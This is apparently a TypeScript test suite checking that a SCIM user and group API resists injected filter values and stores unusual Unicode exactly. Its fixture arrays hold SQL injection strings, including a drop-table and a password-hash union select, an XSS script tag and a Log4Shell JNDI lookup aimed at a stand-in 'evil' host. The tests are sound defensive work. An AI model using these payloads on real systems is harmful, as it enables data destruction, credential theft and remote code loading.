import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DbHandle } from '@/db/client';
import { testDrivers } from '@/test/test-databases';
import { filterQuery, GROUP_URN, user } from './corpus-types';
import { seedFixture, snapshot, type Fixture } from './hostile-fixture';

/**
 * Hostile values that are valid SCIM (so not in the 4xx corpus): SQL and LIKE wildcards inside
 * a well-formed filter find nothing and change nothing; odd Unicode is stored and read back
 * exactly, and found again by an exact filter.
 */
const INJECTED_VALUES = [
  "' or '1'='1",
  "' or 1=1 --",
  '"; drop table members; --',
  "x' union select password_hash from accounts --",
  '%',
  '_',
  '%%',
  '\\',
  '\\%',
  '%_%',
  '*',
  '.*',
  '$1',
  '${userName}',
  "E'\\x27'",
  '\u202e',
  '😀',
];

const ODD_NAMES = [
  'O\'Brien "Bob" \\ /',
  '\u202eevil\u202c',
  '👩‍👩‍👧‍👦 family',
  'z̷̧̛a̶l̸g̵o̵',
  '名前 テスト',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/a}',
  "Robert'); DROP TABLE members;--",
  'tab\tand\nnewline',
  '%_\\ wildcards',
  'x\u200by',
];

describe.each(testDrivers())('valid but hostile SCIM values on $driver', ({ open }) => {
  let handle: DbHandle;
  let fixture: Fixture;
  beforeAll(async () => {
    handle = await open();
    fixture = await seedFixture(handle.db);
  });
  afterAll(() => handle.close());

  it('finds nothing, and changes nothing, for injections inside quoted filter values', async () => {
    const before = await snapshot(handle.db, fixture);
    for (const value of INJECTED_VALUES) {
      const literal = JSON.stringify(value);
      for (const filter of [
        `userName eq ${literal}`,
        `userName co ${literal}`,
        `displayName sw ${literal}`,
        `emails[value ew ${literal}]`,
        `not (userName ne ${literal})`,
      ]) {
        for (const reply of [await fixture.a.call('GET', filterQuery('Users', filter)), await fixture.a.call('POST', '/Users/.search', { filter })]) {
          expect(reply.status, filter).toBe(200);
          expect(reply.json?.totalResults, filter).toBe(0);
        }
      }
      const groups = await fixture.a.call('GET', filterQuery('Groups', `displayName co ${literal} or members[value eq ${literal}]`));
      expect(groups.json?.totalResults, value).toBe(0);
    }
    // The control: the same shapes do find a real user, so "0" above is not an empty table.
    expect((await fixture.a.call('GET', filterQuery('Users', 'userName eq "ALICE@HOSTILE.TEST"'))).json?.totalResults).toBe(1);
    const after = await snapshot(handle.db, fixture);
    expect({ ...after, auditA: 0 }).toEqual({ ...before, auditA: 0 });
  });

  it('stores odd Unicode exactly and finds it again by an exact filter', async () => {
    for (const [i, name] of ODD_NAMES.entries()) {
      const body = user({ displayName: name, name: { givenName: name }, externalId: name, title: name }, `odd-${i}@example.test`);
      const created = await fixture.a.call('POST', '/Users', body);
      expect(created.status, name).toBe(201);
      const read = await fixture.a.call('GET', `/Users/${String(created.json?.id)}`);
      expect(read.json, name).toMatchObject({ displayName: name, externalId: name, title: name, name: { givenName: name } });
      const found = await fixture.a.call('GET', filterQuery('Users', `displayName eq ${JSON.stringify(name)}`));
      expect(
        (found.json?.Resources as { id: string }[]).map((r) => r.id),
        name,
      ).toEqual([created.json?.id]);
      const group = await fixture.a.call('POST', '/Groups', { schemas: [GROUP_URN], displayName: `${name} ${i}` });
      expect(group.status, name).toBe(201);
      expect((await fixture.a.call('GET', `/Groups/${String(group.json?.id)}`)).json?.displayName).toBe(`${name} ${i}`);
    }
    // None of it is visible to the other org.
    expect((await fixture.b.call('GET', filterQuery('Users', 'userName sw "odd-"'))).json?.totalResults).toBe(0);
  });
});
